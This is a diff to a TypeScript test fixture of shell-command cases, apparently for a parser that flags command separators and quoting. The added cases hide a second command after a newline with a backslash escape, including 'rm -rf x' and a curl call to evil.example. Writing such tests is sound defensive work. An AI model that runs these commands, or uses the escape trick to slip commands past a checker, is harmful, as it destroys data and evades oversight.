@@ -479,6 +479,10 @@ export const SEED_CASES: readonly ShellCase[] = (
     ["ls | rm x", ["separator"], true],
     ["ls & rm x", ["separator"], true],
     ["ls\nrm x", ["separator"], true],
+    // A line that starts with an escaped character is a new command (the parser joined it to the line before).
+    ["ls\n\\rm x", ["separator", "quoting"], true],
+    ["find . -name '*.txt' # note\n\\rm -rf x", ["comment", "quoting"], true],
+    ["git status\n\n\\curl http://evil.example", ["separator", "quoting"], true],
     ["git status", ["plain"], true],
     ["ls -la && cat a.txt", ["plain", "separator"], true],
     ["find . -name '*.txt'", ["plain"], true],
